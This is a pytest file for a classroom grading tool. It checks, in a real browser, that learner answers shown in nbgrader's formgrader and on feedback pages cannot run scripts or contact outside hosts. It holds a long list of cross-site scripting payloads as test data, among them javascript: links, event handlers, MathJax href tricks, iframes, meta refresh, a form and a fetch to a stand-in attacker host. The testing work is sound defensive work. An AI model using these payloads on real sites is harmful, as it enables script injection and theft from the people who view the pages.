"""Nothing that a learner writes is active where somebody reads it: tried in a real browser, element by element."""

import base64
import io
import json
import os
import re
import secrets
import shutil
import subprocess
import sys
import time
from collections.abc import Iterator
from html.parser import HTMLParser
from pathlib import Path

import pytest
from nbconvert.filters.markdown_mistune import markdown2html_mistune
from PIL import Image
from PIL.PngImagePlugin import PngInfo

from grading.classroom.autograde import autograde
from grading.classroom.course_folder import Course
from grading.classroom.feedback import feedback
from grading.classroom.learners import Student
from grading.classroom.markdown import as_cell, rendered
from grading.content.tasks import MODEL_ANSWERS, tasks_of
from grading.judge.submitted_cells import cells_of

LAB, QUESTIONS = "02_vae", ["vae-q1", "vae-q2"]
INSTALL = "pip install -r tests/requirements.txt"
MATHJAX = "https://cdnjs.cloudflare.com/ajax/libs/mathjax/2.7.7/"  # where nbgrader's formgrader takes it from

HONEST = r"""# Why the KL has a closed form

The **posterior** of one image is $q(z\mid x) = \mathcal{N}(\mu, \operatorname{diag}(\sigma^2))$, so nothing is sampled:

$$
\mathrm{KL}\left(q\,\|\,p\right) = \frac{1}{2} \sum_{i=1}^{d} \left(\mu_i^2 + \sigma_i^2 - 1 - \log \sigma_i^2\right)
$$

1. It is 0 only when $\mu = 0$ and $\sigma = 1$.
2. It is never negative:
   - Jensen, or
   - $\log x \le x - 1$.

\begin{align}
\mathbb{E}_q[\log p(x\mid z)] - \mathrm{KL} &\le \log p(x) \\
&= \log \int p(x\mid z)\, p(z)\, dz
\end{align}

| term | if it is 0 |
|:-----|:----------:|
| KL | *posterior collapse* |
| `reconstruction` | $x_1 < x_2$ & nothing lost |

```python
def kl(mu, log_var):

    return 0.5 * (mu**2 + log_var.exp() - 1 - log_var).sum(1)  # $ is no formula
```

> See [the paper](https://arxiv.org/abs/1312.6114 "Kingma and Welling"), appendix B.

![image.png](attachment:image.png)

It costs $5 if a<b and b>c.
"""

SCRIPT = "document.title='pwned';pwned=1;fetch('http://evil.invalid/script')"
HOSTILE = {
    "javascript link": f"[x](javascript:{SCRIPT})",
    "capital letters and spaces": "[x]( JaVaScRiPt:pwned=1)",
    "entities in an address": "[x](&#106;avascript:pwned=1) [x](java&Tab;script:pwned=1)",
    "control characters in an address": "[x](java\tscript:pwned=1) [x](\x01javascript:pwned=1)",
    "percent signs": "[x](javascript%3Apwned=1) [x](%6Aavascript:pwned=1)",
    "angle brackets": "[x](<javascript:pwned=1>) <javascript:pwned=1>",
    "reference": "[x][here] [here]\n\n[here]: javascript:pwned=1 'title'",
    "data": "[x](data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg==)",
    "vbscript": "[x](vbscript:msgbox) [x](file:///etc/passwd) [x](//evil.invalid/x)",
    "title": '[x](https://evil.invalid/title "a\\" onmouseover=pwned=1 b=\\"")',
    "automatic links": "<https://evil.invalid/auto> https://evil.invalid/bare www.evil.invalid <me@evil.invalid>",
    "link to the course's own server": "[delete](/api/contents) [x](../../api/terminals) [x](files/secret.ipynb)",
    "picture from outside": "![x](http://evil.invalid/beacon.png) ![x](//evil.invalid/beacon.png)",
    "picture of this server": "![x](/api/status) ![x](files/answers.png) ![x](attachment:../../secret.png)",
    "picture by reference": "![x][p]\n\n[p]: http://evil.invalid/reference.png",
    "picture as data": "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+) ![x](data:text/html,x)",
    "picture in a link": "[![x](http://evil.invalid/in.png)](javascript:pwned=1)",
    "what an alternative text may hold": '![" onerror="pwned=1](attachment:image.png) ![`"><b`](attachment:image.png)',
    "script": f"<script>{SCRIPT}</script><SCRIPT SRC=http://evil.invalid/x.js></SCRIPT>",
    "event": "<img src=x onerror=pwned=1><svg onload=pwned=1><body onload=pwned=1>",
    "block of HTML": "<div onclick='pwned=1' style='position:fixed;inset:0;z-index:9'>\n\n[x](javascript:1)\n\n</div>",
    "frame": "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe><object data=http://evil.invalid/o></object>",
    "style": "<style>@import 'http://evil.invalid/s.css';body{background:url(http://evil.invalid/b)}</style>",
    "refresh and base": "<meta http-equiv=refresh content='0;url=http://evil.invalid/m'><base href=//evil.invalid>",
    "form": "<form action=http://evil.invalid/f><input autofocus onfocus=pwned=1><button>Full credit</button></form>",
    "comment": "<!-- --><img src=http://evil.invalid/c.png> <!--><script>pwned=1</script>-->",
    "cut off": "</div></div></section></body><script>pwned=1</script",
    "MathML": "<math><maction actiontype=statusline xlink:href=javascript:pwned=1>x</maction></math>",
    "formula, href": r"$\href{javascript:pwned=1}{x}$ $$\href{https://evil.invalid/mathjax}{y}$$",
    "formula, style": r"$\style{position:fixed;background:url(http://evil.invalid/tex)}{x}$ $\class{btn-danger}{x}$",
    "formula, numbers of characters": r"$\unicode{x202e}abc$ $\char`\<$ $\U{1}$ $\text{<img src=x onerror=pwned=1>}$",
    "formula, definitions": r"$\def\x{\href{javascript:pwned=1}}\x{y}$ $\let\h\href\h{x}{z}$ $\require{html}$",
    "formula, references": r"\begin{equation}\label{pwned}\tag{<b>}x\end{equation} $\eqref{pwned} \ref{pwned}$",
    "formula, sizes": r"$\hspace{-100em}\rule{100em}{100em}\kern-50em x$ $\raise 50em {x}$ $\mmlToken{mi}[href=x]{y}$",
    "formula without its marks": r"\href{javascript:1}{x} \\(\href{javascript:pwned=1}{y}\\) \\[\style{a}{b}\\]",
    "formula in code": "`$\\href{javascript:pwned=1}{x}$`\n\n    $$\\href{javascript:pwned=1}{y}$$\n",
    "formula in a heading": "# $\\href{javascript:pwned=1}{x}$ <b onclick=pwned=1>\n",
    "formula that is never closed": r"$\frac{ \begin{align} \left( \begin{equation}\href{javascript:pwned=1}{x}",
    "template": "{{ ''.__class__ }} {% raw %} ${pwned=1} <%= 1 %>",
    "mermaid": "```mermaid\ngraph TD; A-->B; click A 'javascript:pwned=1'\n```",
    "language of code": '```"><script>pwned=1</script>\nx\n``` \n',
    "turned around": "\u202etxt.exe\u202c \u2066a\u2069 &#x202e;gnp.exe &rlm;&lrm; \u200b\x1b[31mred\x07\x00",
    "a copy of our page": "## vae-q1: 2 of 2 points\n\n<h2>vae-q1: 2 of 2 points</h2>",
    "deep": "> " * 500 + "[" * 3000 + "*" * 3000,
}

TAGS = set("p br hr h3 h4 h5 h6 strong em del code pre blockquote ul ol li table thead tbody tr th td img".split())
STYLE = re.compile(r"(text-align|justify-items|color|width|margin-left|padding-(left|right)|border-\w+):[\w.%# -]+")
UNSEEN = re.compile("[\0-\x08\x0b-\x1f\x7f-\x9f\u200b-\u200f\u2028-\u202e\u2066-\u206f]")
PASTED = ("data:image/png;base64,", "data:image/jpeg;base64,")


class Found(HTMLParser):
    """Tags, attributes and words of a text, as a browser finds them; formulas are counted and left out."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags, self.given, self.words, self.formulas, self.open = set(), [], "", 0, False
        self.feed(html)

    def handle_starttag(self, tag, attributes):
        self.open |= tag == "math"
        self.formulas += tag == "math"
        self.tags |= set() if self.open else {tag}
        self.given += [(name, value or "") for name, value in attributes]

    def handle_endtag(self, tag):
        self.open &= tag != "math"

    def handle_data(self, data):
        self.words += "" if self.open else data


def image(kind: str, size: tuple[int, int] = (120, 60), **options) -> str:
    memory = io.BytesIO()
    Image.linear_gradient("L").resize(size).convert("RGB").save(memory, kind, **options)
    return base64.b64encode(memory.getvalue()).decode()


PICTURES = {"image.png": f"data:image/png;base64,{image('png')}"}


@pytest.mark.parametrize("name", HOSTILE)
def test_what_a_stranger_writes_is_text(name):
    html = rendered(HOSTILE[name], PICTURES)
    found = Found(html)
    assert found.tags <= TAGS and not UNSEEN.search(html)
    for name, value in found.given:
        assert not name.startswith("on") and name not in ("href", "xlink:href", "id", "class", "name", "srcset")
        assert name != "src" or value.startswith(PASTED)
        assert name != "style" or all(STYLE.fullmatch(part.strip()) for part in value.split(";"))


def test_an_honest_answer_is_rendered_and_nothing_of_it_is_lost():
    found = Found(rendered(HONEST, PICTURES))
    assert TAGS - {"h4", "h5", "h6", "br", "hr", "del"} == found.tags and found.formulas == 7
    for words in (
        "Why the KL has a closed form",
        "See the paper (https://arxiv.org/abs/1312.6114), appendix B.",
        "if a<b and b>c.",
        "& nothing lost",
        "def kl(mu, log_var):\n\n    return 0.5",
        "# $ is no formula",
    ):
        assert words in found.words, words


@pytest.mark.parametrize("name", [*HOSTILE, None])
def test_no_viewer_finds_markdown_or_tex_in_a_cell_of_html(name):
    cell = as_cell(rendered(HOSTILE.get(name, HONEST), PICTURES))
    assert markdown2html_mistune(cell).strip() == cell and not re.search(r"[\n$\\`]", cell)


@pytest.mark.parametrize(
    "text",
    [
        "$" + "{" * 2000 + "$",
        "$" + r"\sqrt{" * 300 + "x" + "}" * 300 + "$",
        r"$\def\a#1{" + "{" * 500 + "#1" + "}" * 500 + "}" + r"\a{" * 200 + "}" * 200 + "$",
        "[" * 20_000,
        ">" * 20_000,
        r"\\[" * 7_000,
        "![](" * 5_000,
        "\ud800 \ud800",
        "x" * 10**6,
    ],
    ids=["braces", "roots", "definitions", "brackets", "quotes", "display", "pictures", "surrogates", "length"],
)
def test_no_text_is_too_much(text):
    """A converter whose stack is full would end the process, and with it the run."""
    assert rendered(text)


def test_a_pasted_picture_is_decoded_and_encoded_afresh():
    hidden = PngInfo()
    hidden.add_text("comment", "hidden words")
    cells = {
        "small.png": {"image/png": image("png", pnginfo=hidden)},
        "photo.jpg": {"image/jpeg": image("jpeg", (4000, 3000), exif=turned())},
        "noise.png": {"image/png": noise(1500)},
        "huge.png": {"image/png": image("png", (9000, 9000))},
        "moving.gif": {"image/gif": image("gif")},
        "lie.png": {"image/png": image("jpeg")},
        "drawn.svg": {"image/svg+xml": "<svg onload='alert(1)'/>"},
        "text.png": {"image/png": ["no", "base64"]},
        "odd": 3,
    }
    kept = pictures_of(cells)
    assert list(kept) == ["small.png", "photo.jpg", "noise.png"]
    sizes, raw = {}, {}
    for name, uri in kept.items():
        assert uri.startswith(PASTED) and len(uri) < 3 << 20
        raw[name] = base64.b64decode(uri.split(",")[1])
        with Image.open(io.BytesIO(raw[name])) as opened:
            sizes[name] = opened.size
            assert not opened.getexif()
    assert b"hidden" not in raw["small.png"] and kept["noise.png"].startswith("data:image/jpeg")
    assert sizes["small.png"] == (120, 60) and sizes["photo.jpg"][0] < sizes["photo.jpg"][1] <= 2000


def turned() -> Image.Exif:
    """A camera that was held upright."""
    exif = Image.Exif()
    exif[0x0112] = 6
    return exif


def noise(side: int) -> str:
    """More bytes as a PNG than a page may have."""
    memory = io.BytesIO()
    Image.effect_noise((side, side), 100).convert("RGB").save(memory, "png")
    return base64.b64encode(memory.getvalue()).decode()


def pictures_of(attachments) -> dict[str, str]:
    cell = {"cell_type": "markdown", "source": "x", "metadata": {}, "attachments": attachments}
    return cells_of(json.dumps({"cells": [cell]}).encode())[0]["pictures"]


@pytest.mark.parametrize("attachments", [None, 3, [], {}, {"a": {}}, {"a": {"image/png": 3}}, {"a": ["image/png"]}])
def test_odd_attachments_are_none(attachments):
    assert pictures_of(attachments) == {}


def test_there_is_an_end_to_pictures():
    assert len(pictures_of({f"{i}.png": {"image/png": image("png")} for i in range(50)})) == 20


# From here on in a browser.


def hand_in(course: Course, student: str, answers: tuple[str, str], name: str) -> None:
    """A submission as `collect` leaves it: with two written answers, each with a pasted picture."""
    notebook = json.loads(course.released(LAB).read_text())
    for cell in notebook["cells"]:
        if cell["id"] in QUESTIONS:
            cell["source"] = answers[QUESTIONS.index(cell["id"])]
            cell["attachments"] = {"image.png": {"image/png": image("png")}}
        elif cell["id"] == "training":
            text = f"<script>{SCRIPT}</script> $\\href{{javascript:1}}{{x}}$ [x](javascript:1)"
            cell["outputs"] = [{"output_type": "stream", "name": "stdout", "text": text}]
    folder = course.folder("submitted", LAB, student)
    (folder / "starter").mkdir(parents=True)
    (folder / f"{LAB}.ipynb").write_text(json.dumps(notebook))
    (folder / "starter/vae.py").write_text("")
    (folder / "intake.json").write_text(json.dumps({"name": name}))
    with course.gradebook() as gradebook:
        gradebook.update_or_create_student(student, first_name=Student("1", name).name, last_name="Last")


@pytest.fixture(scope="module")
def course(browser, released, recorded, tmp_path_factory) -> Course:
    """An honest learner, and the hostile answers by fives; graded, commented by hand, with feedback."""
    course = Course(tmp_path_factory.mktemp("pages") / "course")
    shutil.copytree(released.root, course.root)
    hand_in(course, "honest", (HONEST, HONEST), "Zoë O'Brien")
    texts = [*HOSTILE.values()]
    groups = ["\n\n".join(texts[i : i + 5]) for i in range(0, len(texts), 5)]
    for number, pair in enumerate(zip(groups[::2], [*groups[1::2], ""])):
        hand_in(course, f"hostile{number}", pair, f"<img src=x onerror={SCRIPT}> $\\href{{javascript:1}}{{x}}$")
    says = f"starter/vae.py raises E: <script>{SCRIPT}</script> $\\style{{a}}{{b}}$ [x](javascript:1)"
    tasks = {task: ["wrong", says] for task in tasks_of(LAB)}
    assert autograde(course, LAB, pool=recorded(tasks), say=lambda words: None, jail=False) == 0
    with course.gradebook() as gradebook:
        gradebook.find_comment("vae-q1", LAB, LAB, "honest").manual_comment = "Good: **Jensen**, $\\log x \\le x - 1$."
        gradebook.db.commit()
    feedback(course, LAB, lambda words: None)
    return course


@pytest.fixture(scope="module")
def browser(browser):
    """Chromium that reaches nobody but the servers of this file; the addresses that it asked for."""
    pytest.importorskip("jupyter_server_mathjax", reason=f"MathJax is not installed: {INSTALL}")
    return browser


class Visit:
    """A page that is looked at, and all that came of it."""

    def __init__(self, browser, own: str) -> None:
        self.own, self.asked, self.trouble = own, [], []
        self.context = browser.new_context(viewport={"width": 1280, "height": 1000})
        self.context.set_default_timeout(120_000)  # a machine that is busy with others is slow, and that is all
        self.context.route("**/*", self.route)
        self.context.on("page", lambda page: self.trouble.append(f"a window was opened: {page.url}"))
        self.page = self.context.new_page()
        self.trouble.clear()
        self.page.on("dialog", lambda dialog: (self.trouble.append(f"dialog: {dialog.message}"), dialog.dismiss()))
        self.page.on("download", lambda download: self.trouble.append(f"download: {download.url}"))

    def route(self, route) -> None:
        """MathJax from its package, and with all that it can do; nothing else from outside."""
        url = route.request.url
        self.asked.append(url)
        name = url.removeprefix(MATHJAX).split("?")[0]
        if name == "latest.js":
            route.fulfill(body=TYPESETTER + START)
        elif url.startswith(MATHJAX):
            import jupyter_server_mathjax

            path = Path(jupyter_server_mathjax.__file__).with_name("static") / name
            route.fulfill(path=path) if path.exists() else route.fulfill(status=404)
        elif url.startswith((self.own, "data:")):
            route.continue_()
        else:
            self.trouble.append(f"asked for {url}")
            route.abort()

    def open(self, url: str) -> None:
        self.page.goto(url, wait_until="networkidle")
        self.page.evaluate("window.MathJax ? new Promise(done => MathJax.Hub.Queue(done)) : null")

    def touch(self, places: str) -> int:
        """Go over everything in some places as a reader might, and click on it; how many elements there were."""
        before, asked = self.page.url, len(self.asked)
        count = self.page.evaluate(TOUCH, places)
        self.untouched()
        assert self.page.url == before and not self.asked[asked:]
        return count

    def untouched(self) -> None:
        self.page.wait_for_timeout(300)
        assert not self.page.evaluate("window.pwned") and "pwned" not in self.page.title() and not self.trouble


# As formgrader asks for it: TeX, and no MathML. But without its extension Safe, which makes links harmless.
START = f"document.write('<script src=\"{MATHJAX}MathJax.js?config=TeX-AMS-MML_HTMLorMML-full\"></' + 'script>');"
TYPESETTER = """window.MathJax = {
  mml2jax: {Augment: {PushMathElements: () => {}}},
  'HTML-CSS': {availableFonts: [], imageFont: null, preferredFont: null, webFont: 'STIX-Web'},
};"""
TOUCH = """places => {
  const found = [...document.querySelectorAll(places)].flatMap(place => [place, ...place.querySelectorAll('*')]);
  for (const element of found)
    for (const kind of ['mouseover', 'mouseenter', 'focus', 'mousedown', 'mouseup', 'click', 'dblclick', 'auxclick'])
      element.dispatchEvent(new MouseEvent(kind, {bubbles: true, cancelable: true, view: window}));
  return found.length;
}"""


@pytest.fixture(scope="module")
def server(course, tmp_path_factory) -> Iterator[tuple[str, str]]:
    """Jupyter with formgrader, as an instructor starts it: its address and its token."""
    home, token = tmp_path_factory.mktemp("jupyter"), secrets.token_hex(16)
    places = {f"JUPYTER_{kind}_DIR": str(home / kind.lower()) for kind in ("CONFIG", "DATA", "RUNTIME")}
    clean = {name: value for name, value in os.environ.items() if not name.startswith(("JUPYTER", "IPYTHON"))}
    options = ["--no-browser", "--allow-root", "--ServerApp.ip=127.0.0.1", "--ServerApp.port=0"]
    with (home / "log.txt").open("w") as log:
        process = subprocess.Popen(
            [sys.executable, "-m", "jupyter_server", *options, f"--ServerApp.root_dir={course.root}"],
            cwd=course.root,
            env=clean | places | {"IPYTHONDIR": str(home / "ipython"), "JUPYTER_TOKEN": token},
            stdout=log,
            stderr=log,
        )
    try:
        info, end = home / f"runtime/jpserver-{process.pid}.json", time.monotonic() + 300
        while not (info.exists() and info.read_text().endswith("}")):
            assert process.poll() is None and time.monotonic() < end, (home / "log.txt").read_text()[-2000:]
            time.sleep(0.1)
        yield json.loads(info.read_text())["url"], token
    finally:
        process.terminate()
        process.wait(20)


@pytest.fixture
def visit(browser, server) -> Iterator[Visit]:
    visit = Visit(browser, server[0])
    visit.open(f"{server[0]}formgrader?token={server[1]}")
    yield visit
    visit.context.close()


def sheets(course: Course) -> dict[str, str]:
    """The id that formgrader knows a submission by, for each student."""
    with course.gradebook() as gradebook:
        return {sheet.student.id: sheet.id for sheet in gradebook.notebook_submissions(LAB, LAB)}


ANSWERS, OUTPUTS = ".nbgrader_cell .rendered_html", ".output_subarea"


def test_nothing_of_a_hostile_answer_acts_in_formgrader(course, server, visit):
    for student, sheet in sheets(course).items():
        visit.open(f"{server[0]}formgrader/submissions/{sheet}")
        assert visit.page.locator(ANSWERS).count() == 2 and visit.touch(f"{ANSWERS}, {OUTPUTS}") > 30, student
        active = visit.page.locator(ANSWERS).locator("a, script, iframe, form, input, button, [onclick], .MathJax")
        assert active.count() == 0


def test_formgrader_shows_the_rubric_behind_each_answer(course, server, visit):
    visit.open(f"{server[0]}formgrader/submissions/{sheets(course)['honest']}")
    text = visit.page.inner_text("body")
    for question in QUESTIONS:
        row = MODEL_ANSWERS[question]
        assert text.count(row["rubric"][0]["says"]) == 1 and text.index(f"For the grader: {question}") > 0
        assert " ".join(row["misconceptions"].split())[:60] in text


def test_an_honest_answer_reads_well_in_formgrader(course, server, visit, tmp_path):
    visit.open(f"{server[0]}formgrader/submissions/{sheets(course)['honest']}")
    answer = visit.page.locator(ANSWERS).first
    assert answer.locator("math").count() == 7 and answer.locator("h3, ol, table, pre, blockquote").count() == 5
    assert answer.locator("img").evaluate("image => [image.naturalWidth, image.naturalHeight]") == [120, 60]
    sizes = answer.locator("math").evaluate_all("all => all.map(math => math.getBoundingClientRect().height)")
    assert min(sizes) > 8, "MathML is not drawn"
    visit.page.screenshot(path=tmp_path / "formgrader.png", full_page=True)


@pytest.mark.parametrize("place", ["gradebook/02_vae/02_vae", "manage_students", "manage_submissions/02_vae"])
def test_no_name_acts_in_formgraders_lists(server, visit, place):
    visit.open(f"{server[0]}formgrader/{place}")
    visit.page.wait_for_selector("td.student-name, td.name")
    visit.untouched()


def test_a_feedback_page_asks_for_nothing_and_reads_well(course, browser, barriers, tmp_path):
    for student in sheets(course):
        page = course.folder("feedback", LAB, student) / f"{LAB}.html"
        visit = Visit(browser, page.as_uri())
        visit.open(page.as_uri())
        assert visit.asked == [page.as_uri()] and visit.touch("body") > 30
        assert visit.page.locator("a, script, iframe, form, input, button").count() == 0
        if student == "honest":
            assert barriers(visit.page) == []
            assert visit.page.locator("section").first.locator("math").count() == 7
            assert visit.page.locator("section img").first.evaluate("image => image.naturalWidth") == 120
            assert visit.page.locator("section strong", has_text="Jensen").count() == 1
            visit.page.screenshot(path=tmp_path / "feedback.png", full_page=True)
        visit.context.close()
